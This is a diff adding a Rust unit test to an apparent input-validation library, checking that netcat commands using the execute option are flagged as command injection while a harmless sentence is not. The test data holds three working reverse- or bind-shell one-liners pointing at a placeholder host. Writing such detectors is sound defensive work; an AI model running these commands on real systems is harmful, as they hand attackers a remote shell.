@@ -216,6 +216,19 @@ fn a_refusal_names_every_rule_that_fired_most_severe_first() {
 }
 
 #[test]
+fn netcat_running_a_program_is_command_injection() {
+    // The grammar: netcat's execute option, wherever it sits among the arguments.
+    for payload in [
+        "| ncat -e /usr/bin/zsh 192.0.2.8 9001",
+        "netcat -lvp 9001 -e /bin/bash",
+        "nc.exe 192.0.2.8 443 -e cmd.exe",
+    ] {
+        assert_eq!(category(payload), Some(Category::CommandInjection), "{payload}");
+    }
+    assert_eq!(category("the nc command reads -e as execute on some builds"), None);
+}
+
+#[test]
 fn the_threshold_is_configurable() {
     let with_threshold = |threshold| {
         let mut config = InputValidation::default();
